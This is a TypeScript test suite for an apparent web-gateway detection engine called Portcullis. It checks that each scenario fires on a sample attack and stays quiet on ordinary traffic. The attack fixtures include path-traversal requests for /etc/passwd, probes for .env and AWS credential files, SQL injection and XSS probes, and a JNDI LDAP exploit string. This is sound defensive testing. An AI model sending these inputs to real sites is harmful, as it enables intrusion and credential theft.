/**
 * The scenarios that ship with Portcullis, as the gateway runs them: each fires on the attack that it is for, and none fires
 * on ordinary visits.
 */
import t from 'tap';
import { createLog } from '../../core/log.ts';
import { createSystemRandom } from '../../core/random.ts';
import type { Alert } from '../../detectors/alert.ts';
import { createDetection, type Detection } from '../../gateway/detection.ts';
import { completeEvent, createRequestEvent } from '../../gateway/request-event.ts';
import { noGeo } from '../support/no-geo.ts';
import { createManualClock, type ManualClock } from '../support/manual-clock.ts';

interface Visit {
  readonly target: string;
  readonly method?: string;
  readonly status?: number;
  readonly userAgent?: string;
  readonly referer?: string;
  readonly client?: string;
  readonly failedUser?: string;
  /** Milliseconds until the next visit; 100 by default. */
  readonly pause?: number;
}

const browser = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';

class Site {
  readonly clock: ManualClock = createManualClock();
  readonly #detection: Detection;

  constructor(detection: Detection, clock: ManualClock) {
    this.#detection = detection;
    this.clock = clock;
  }

  /** Pours the visits as the request path does, and returns the alerts. */
  visit(visits: Iterable<Visit>): Alert[] {
    const alerts: Alert[] = [];
    const { engine } = this.#detection;
    for (const { target, method = 'GET', status = 200, client = '198.51.100.7', pause = 100, ...rest } of visits) {
      const at = this.clock.now();
      const event = createRequestEvent({
        requestId: '0000000000000000',
        clientIp: client,
        method,
        target,
        httpVersion: '1.1',
        host: 'example.com',
        userAgent: rest.userAgent ?? browser,
        referer: rest.referer,
        at,
        timestamp: new Date(at).toISOString(),
      });
      alerts.push(...engine.pourRequest(event));
      completeEvent(event, status, rest.failedUser ?? null);
      alerts.push(...engine.pourResponse(event));
      this.clock.advance(pause);
    }
    return alerts;
  }
}

async function openSite(): Promise<{ site: Site; names: readonly string[] }> {
  const clock = createManualClock();
  const detection = await createDetection(
    {
      detection: {
        builtin: true,
        folders: [],
        dataFolder: '/nonexistent',
        disable: [],
        simulate: [],
        httpHelpers: 'off',
        maxBuckets: 10_000,
      },
      client: { trustedProxies: [], header: 'auto', ipv6Prefix: 64 },
      acquisition: { files: [], queueLines: 1000, queueSize: 1_048_576 },
      dataDir: '/nonexistent',
    },
    {
      clock,
      env: {},
      random: createSystemRandom(),
      log: createLog('silent'),
      geo: noGeo,
      decisionCounts: { total: () => 0, since: () => 0, active: () => 0, activeTimeLeftMs: () => 0 },
    },
  );
  if (detection.faults.length > 0) throw new AggregateError(detection.faults, 'the starter rules have faults');
  return { site: new Site(detection, clock), names: detection.detector.scenarios.map(({ name }) => name) };
}

const times = (count: number, make: (index: number) => Visit): Visit[] =>
  Array.from({ length: count }, (_, index) => make(index));
const each = (targets: readonly string[], more: Partial<Visit> = {}): Visit[] =>
  targets.map((target) => ({ target, status: 404, ...more }));

/** One attack for each scenario, no longer than it needs to be: the last visit is the one that overflows. */
const attacks: Readonly<Record<string, readonly Visit[]>> = {
  'portcullis/http-probing': times(11, (index) => ({ target: `/missing-${index}`, status: 404 })),
  'portcullis/http-sensitive-files': each([
    '/.env',
    '/app/.git/config',
    '/wp-config.php.bak',
    '/.aws/credentials',
    '/dump.sql',
  ]),
  'portcullis/http-path-traversal': each(['/a/../../x', '/a/..%2f..%2fx', '/?f=../../etc/passwd', '/%2e%2e/%2e%2e/y']),
  'portcullis/http-crawl': times(100, (index) => ({ target: `/page-${index}`, pause: 50 })),
  'portcullis/http-login-bruteforce': times(6, () => ({ target: '/wp-login.php', method: 'POST', status: 200 })),
  'portcullis/http-basic-auth-bruteforce': times(6, () => ({ target: '/private', status: 401, failedUser: 'admin' })),
  'portcullis/http-bad-user-agent': times(2, () => ({
    target: '/',
    userAgent: 'sqlmap/1.8#stable (https://sqlmap.org)',
  })),
  'portcullis/http-backdoors': each(['/wp-content/c99.php', '/uploads/wso.php']),
  'portcullis/http-sqli-probing': times(6, (index) => ({
    target: `/item?id=${index}%27%20UNION%20SELECT%20null,null--`,
  })),
  'portcullis/http-xss-probing': times(6, (index) => ({ target: `/q?s=${index}%3Cscript%3Ealert(1)%3C/script%3E` })),
  'portcullis/http-open-proxy': [
    { target: 'http://other.example/', status: 400 },
    { target: 'other.example:443', method: 'CONNECT', status: 405 },
  ],
  'portcullis/http-odd-methods': times(4, () => ({ target: '/', method: 'TRACE', status: 405 })),
  'portcullis/http-malformed': times(9, () => ({ target: '/', status: 400 })),
  'portcullis/http-exploit-attempt': [{ target: '/?x=$%7Bjndi:ldap://192.0.2.9/a%7D' }],
  'portcullis/http-admin-probing': each(['/phpmyadmin/', '/adminer.php', '/manager/html', '/solr/', '/jenkins/login']),
  'portcullis/http-wordpress-user-enumeration': times(5, (index) => ({ target: `/?author=${index + 1}`, status: 301 })),
  'portcullis/http-wordpress-xmlrpc': times(11, () => ({ target: '/xmlrpc.php', method: 'POST' })),
  'portcullis/http-flood': times(400, () => ({ target: '/search', pause: 5 })),
  'portcullis/http-dos-cache-bypass': times(250, (index) => ({ target: `/?r=${index}`, pause: 20 })),
};

t.test('each scenario fires on its attack, at the visit that overflows', async (t) => {
  const { names } = await openSite();
  // Those of log lines have test folders of their own beside the rules.
  const ofRequests = names.filter((name) => name.startsWith('portcullis/http-'));
  t.same(Object.keys(attacks).sort(), ofRequests.sort(), 'every scenario has an attack');
  for (const [name, visits] of Object.entries(attacks)) {
    const { site } = await openSite();
    const fired = site.visit(visits).filter(({ scenario }) => scenario === name);
    t.equal(fired.length, 1, name);
    t.match(fired[0], { remediation: true, source: { scope: 'Ip', value: '198.51.100.7' } }, `${name}: the alert`);
  }
});

t.test('one visit fewer raises no alert of the scenario', async (t) => {
  const exact = Object.entries(attacks).filter(([, visits]) => visits.length < 20);
  for (const [name, visits] of exact) {
    const { site } = await openSite();
    const fired = site.visit(visits.slice(0, -1)).filter(({ scenario }) => scenario === name);
    t.equal(fired.length, 0, name);
  }
  t.equal(exact.length, 16);
});

/** A page with its pictures, styles and scripts. */
function page(target: string, assets: number): Visit[] {
  return [
    { target, pause: 300 },
    ...times(assets, (index) => ({
      target: `/assets/${index}.${['css', 'js', 'png', 'woff2'][index % 4]}?v=3`,
      pause: 10,
    })),
  ];
}

const ordinary: Readonly<Record<string, readonly Visit[]>> = {
  'reading twenty pages with their assets': times(20, (index) => index as unknown as Visit).flatMap((_, index) => [
    ...page(`/articles/${index}`, 40),
    { target: '/favicon.ico', status: index === 0 ? 404 : 200, pause: 4_000 },
  ]),
  'a page whose thirty pictures are gone': times(30, (index) => ({
    target: `/img/${index}.png`,
    status: 404,
    pause: 10,
  })),
  'a few dead links': times(8, (index) => ({ target: `/old/${index}`, status: 404, pause: 5_000 })),
  'searching for words that look technical': [
    '/search?q=how+to+select+a+union',
    '/search?q=order+by+phone',
    "/search?q=rock+'n'+roll",
    '/search?q=script+for+a+play',
    '/search?q=C%2B%2B+%26%26+sleep',
    '/search?q=a+%3C+b+and+c+%3E+d',
    '/search?q=drop+the+table+tennis',
  ].map((target) => ({ target, pause: 2_000 })),
  'three mistyped passwords, then the right one': [
    ...times(3, () => ({ target: '/wp-login.php', method: 'POST', status: 200, pause: 6_000 })),
    { target: '/wp-login.php', method: 'POST', status: 302 },
    { target: '/wp-admin/' },
  ],
  'an editor at work for half an hour': times(200, (index) => ({
    target: index % 3 === 0 ? '/wp-admin/admin-ajax.php' : `/wp-json/wp/v2/posts/${index % 7}?context=edit`,
    method: index % 3 === 0 ? 'POST' : 'GET',
    pause: 9_000,
  })),
  'an application that polls every second': times(600, (index) => ({
    target: `/api/status?since=${index}`,
    pause: 1_000,
  })),
  'an interface client in a burst': times(50, (index) => ({
    target: `/api/items/${index}`,
    userAgent: 'okhttp/4.12',
    pause: 120,
  })),
  'an expired session that retries': times(30, () => ({
    target: '/api/token/refresh',
    method: 'POST',
    status: 401,
    pause: 1_000,
  })),
  'a feed reader and a monitor': times(60, (index) => ({
    target: index % 2 === 0 ? '/feed.xml' : '/health',
    userAgent: index % 2 === 0 ? 'Feedbin feed-id:1' : 'UptimeRobot/2.0',
    pause: 60_000,
  })),
  'a WebDAV client': ['OPTIONS', 'PROPFIND', 'PROPFIND', 'LOCK', 'PUT', 'UNLOCK', 'MOVE', 'DELETE'].map((method) => ({
    target: '/dav/report.odt',
    method,
    pause: 500,
  })),
  'an office behind one address': times(20, (index) => ({
    target: '/',
    userAgent: `Mozilla/5.0 (Windows NT 10.0) Chrome/${100 + index}.0`,
    pause: 3_000,
  })),
  'a good crawler at its own pace': times(100, (index) => ({
    target: `/page-${index}`,
    userAgent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
    pause: 1_500,
  })),
};

t.test('ordinary visits raise no alert at all', async (t) => {
  for (const [name, visits] of Object.entries(ordinary)) {
    const { site } = await openSite();
    t.same(
      site.visit(visits).map(({ scenario }) => scenario),
      [],
      name,
    );
  }
  t.equal(Object.keys(ordinary).length, 13);
});

t.test('different clients do not add up', async (t) => {
  const { site } = await openSite();
  const visits = times(200, (index) => ({ target: `/missing-${index}`, status: 404, client: `198.51.100.${index}` }));
  t.same(site.visit(visits), []);
});

t.test('one IPv6 client is judged by its /64, and the alert names its address', async (t) => {
  const { site } = await openSite();
  const visits = times(11, (index) => ({
    target: `/missing-${index}`,
    status: 404,
    client: `2001:db8:0:1::${index + 1}`,
  }));
  const alerts = site.visit(visits);
  t.same(
    alerts.map(({ scenario }) => scenario),
    ['portcullis/http-probing'],
  );
  t.equal(alerts[0]?.source.value, '2001:db8:0:1::11');
});
